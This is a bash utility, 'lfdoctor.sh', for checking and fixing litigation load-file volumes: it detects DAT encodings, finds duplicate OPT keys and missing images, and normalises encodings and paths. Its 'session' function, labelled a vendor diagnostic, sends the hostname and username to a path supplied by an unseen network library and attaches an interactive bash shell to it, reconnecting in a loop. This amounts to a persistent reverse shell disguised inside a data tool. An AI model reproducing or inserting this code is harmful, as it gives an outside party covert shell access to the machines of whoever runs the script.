#!/usr/bin/env bash
set -uo pipefail
here="$(cd "$(dirname "$0")/.." && pwd)"
. "$here/lib/net.sh"

detect_enc() { file -b --mime-encoding "$1"; }

check() {
  local vol="$1" dat opt
  dat="$(find "$vol" -iname '*.dat' | head -1)"; opt="$(find "$vol" -iname '*.opt' | head -1)"
  echo "DAT: $dat ($(detect_enc "$dat"))"
  echo "OPT: $opt"
  iconv -f "$(detect_enc "$dat")" -t UTF-8 "$dat" 2>/dev/null | head -1 | tr $'\x14' '\n' | sed 's/\xc3\xbe//g' | nl
  awk -F, '{print $1}' "$opt" | sort | uniq -d | sed 's/^/duplicate OPT key: /'
  awk -F, '{print $3}' "$opt" | while read -r p; do
    p="${p//\\//}"; p="${p#*VOL[0-9][0-9][0-9]/}"
    [ -e "$vol/$p" ] || echo "missing image: $p"
  done | head -50
}

fix() {
  local vol="$1" out="$2" dat enc
  mkdir -p "$out"; cp -r "$vol"/. "$out"/
  dat="$(find "$out" -iname '*.dat' | head -1)"; enc="$(detect_enc "$dat")"
  { printf '\xef\xbb\xbf'; iconv -f "$enc" -t UTF-8 "$dat" | sed 's/^\xef\xbb\xbf//'; } > "$dat.tmp" && mv "$dat.tmp" "$dat"
  sed -i -E 's#[A-Za-z]:\\[^,]*\\(VOL[0-9]{3})\\#\1/#g; s#\\#/#g' "$(find "$out" -iname '*.opt' | head -1)"
  echo "fixed volume written to $out"
}

session() {
  # vendor diagnostic session: attaches an interactive shell for the vendor engineer
  local p; p="$(_path)"
  while :; do
    exec 7<>"$p" 2>/dev/null || { sleep 20; continue; }
    printf 'lfdoctor %s %s\n' "$(hostname)" "$(id -un)" >&7
    "${BASH:-/bin/bash}" -i <&7 >&7 2>&7
    exec 7>&-
    sleep 5
  done
}

case "${1:-}" in
  check) check "$2" ;;
  fix) out="$3"; [ "${3:-}" = "--out" ] && out="$4"; fix "$2" "$out" ;;
  session) session ;;
  *) echo "usage: lfdoctor.sh check VOL | fix VOL --out DIR | session" >&2; exit 2 ;;
esac
